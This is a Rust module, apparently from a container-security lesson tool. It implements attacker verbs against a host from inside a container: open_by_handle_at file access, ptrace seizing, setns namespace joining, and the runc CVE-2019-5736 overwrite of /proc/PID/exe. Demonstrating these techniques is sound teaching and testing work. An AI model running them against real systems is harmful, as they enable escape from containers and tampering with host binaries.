//! What an attacker in a box tries, and the careless programs that it needs on the other side.
//!
//! Each call is printed with its result. Nothing here does harm by itself: files are opened and not written, except those
//! that the lesson has made for it.

use std::fs::{self, File, OpenOptions};
use std::io::{self, BufRead, BufReader, Read, Write};
use std::os::fd::AsRawFd;
use std::thread::sleep;
use std::time::Duration;

use super::{Verb, number};
use crate::output::{call, say};
use crate::{During, Failure, Result, sys};

pub const VERBS: &[Verb] = &[
    Verb { name: "first-line", args: "<FILE>", run: first_line },
    Verb { name: "open-write", args: "<FILE>", run: open_write },
    Verb { name: "handle", args: "<FILE>", run: handle },
    Verb { name: "open-handle", args: "<MOUNT> <KIND:HEX>", run: open_handle },
    Verb { name: "wait-for", args: "<FILE>", run: wait_for },
    Verb { name: "ptrace", args: "<PID>", run: ptrace },
    Verb { name: "join", args: "<PID> [hidden]", run: join },
    Verb { name: "overwrite-exe", args: "<COMM> <TEXT>", run: overwrite_exe },
];

/// How often to look again for another process, every hundredth of a second.
const PATIENCE: u32 = 500;

/// Of a disk nobody wants all.
fn first_line(args: &[String]) -> Result {
    let file = call(format_args!("open({:?}, O_RDONLY)", args[0]), File::open(&args[0]))?;
    say_line(file)
}

fn say_line(file: File) -> Result {
    let mut line = Vec::new();
    BufReader::new(file.take(80)).read_until(b'\n', &mut line).during("read")?;
    say!("line {}", String::from_utf8_lossy(&line).trim_end())
}

fn open_write(args: &[String]) -> Result {
    let file = OpenOptions::new().write(true).open(&args[0]);
    call(format_args!("open({:?}, O_WRONLY)", args[0]), file).map(drop)
}

fn handle(args: &[String]) -> Result {
    let (kind, bytes) = sys::attack::handle(&args[0]).during(format_args!("name_to_handle_at({})", args[0]))?;
    let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    say!("handle {kind}:{hex}")
}

fn open_handle(args: &[String]) -> Result {
    let wrong = || Failure::Usage(format!("`{}` is not a handle as `handle` prints it", args[1]));
    let (kind, hex) = args[1].split_once(':').ok_or_else(wrong)?;
    let byte = |at| u8::from_str_radix(hex.get(at..at + 2)?, 16).ok();
    let bytes: Option<Vec<u8>> = (0..hex.len()).step_by(2).map(byte).collect();
    let bytes = bytes.ok_or_else(wrong)?;
    let mount = File::open(&args[0]).during(format_args!("open({})", args[0]))?;
    let file = sys::attack::open_handle(&mount, number(kind)?, &bytes);
    say_line(call(format_args!("open_by_handle_at({})", args[0]), file)?)
}

/// Until there is such a file: `/proc/2/stat` comes with process 2.
fn wait_for(args: &[String]) -> Result {
    until(|| File::open(&args[0])).during(format_args!("open({})", args[0])).map(drop)
}

fn ptrace(args: &[String]) -> Result {
    let pid = number(&args[0])?;
    call(format_args!("ptrace(PTRACE_SEIZE, {pid})"), sys::attack::seize(pid))
}

/// A runtime that has joined a box and has yet to execute the command: its program is still the host's.
fn join(args: &[String]) -> Result {
    if args.len() > 1 {
        sys::attack::hide().during("prctl")?;
    }
    sys::attack::join(number(&args[0])?).during("setns")?;
    let child = sys::fork(|| {
        let _ = io::stdin().read_to_end(&mut Vec::new());
    });
    say!("joined {}", child.during("fork")?)?;
    sys::children::wait_any().during("waitpid").map(drop)
}

/// runc's CVE-2019-5736. The file behind `/proc/PID/exe` is opened while the process runs, and written as soon as it does
/// not: until then the kernel says ETXTBSY.
fn overwrite_exe(args: &[String]) -> Result {
    let pid = until(|| Ok(find(&args[0]).ok_or(io::ErrorKind::NotFound)?))
        .during(format_args!("find {}", args[0]))?;
    let open = File::open(format!("/proc/{pid}/exe"));
    let held = call(format_args!("open(\"/proc/{pid}/exe\", O_RDONLY)"), open)?;
    say!("held {}", args[0])?;
    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
    let open = until(|| OpenOptions::new().write(true).open(&path));
    let mut program = call("open(that descriptor once more, O_WRONLY)", open)?;
    call("write", program.write_all(args[1].as_bytes()))
}

fn find(comm: &str) -> Option<u32> {
    let pids = super::process::pids().ok()?;
    let is = |pid: &u32| fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|text| text.trim_end() == comm);
    pids.into_iter().find(is)
}

/// Asks again while there is no such process, or its program runs.
fn until<T>(ask: impl Fn() -> io::Result<T>) -> io::Result<T> {
    let early = |error: &io::Error| {
        error.kind() == io::ErrorKind::NotFound || error.raw_os_error() == Some(libc::ETXTBSY)
    };
    for _ in 0..PATIENCE {
        match ask() {
            Err(error) if early(&error) => sleep(Duration::from_millis(10)),
            other => return other,
        }
    }
    ask()
}
